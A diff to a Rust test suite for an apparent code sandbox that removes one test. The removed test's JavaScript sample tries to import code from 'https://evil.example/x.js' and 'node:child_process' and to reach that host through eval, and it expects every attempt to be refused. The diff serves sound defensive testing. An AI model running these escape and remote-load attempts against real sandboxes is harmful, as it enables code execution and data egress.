@@ -163,23 +163,6 @@ pub(crate) fn trials() -> Vec<Trial> {
                 all[0].remarks
             );
         }),
-        trial("calls::h58_code_is_not_imported_from_outside_and_what_is_evaluated_has_no_more_ways", || {
-            let world = World::new(Guards::default());
-            let code = "exports.index = { run: async ({ call }) => { const tried = []; for (const from of ['data:text/javascript,export default 1', 'https://evil.example/x.js', 'node:child_process', './other.js']) { try { await import(from); tried.push('imported'); } catch { tried.push('refused'); } } const answer = await eval(\"__forge_fetch__({ type: 'egress' }, 'https://evil.example/', {})\"); return { tried, status: answer.status }; } };";
-            let package = assay_sandbox::Package {
-                manifest: manifest(READ, ""),
-                code: code.to_owned(),
-                ..Default::default()
-            };
-            world.platform.deploy("production", &package, "a developer").unwrap();
-            let it = world.install("production", "alpha");
-            let answer = world.invoke(&it, None, json!({}));
-            assert_eq!(
-                answer.value().unwrap(),
-                &json!({ "tried": ["refused", "refused", "refused", "refused"], "status": 403 })
-            );
-            assert_eq!(rules(&answer), ["egress-not-declared"]);
-        }),
         trial("calls::outside_is_closed_unless_somebody_opens_it", || {
             let world = World::new(Guards::default());
             world.deploy("production", manifest(&format!("{READ}{LISTED}"), ""));
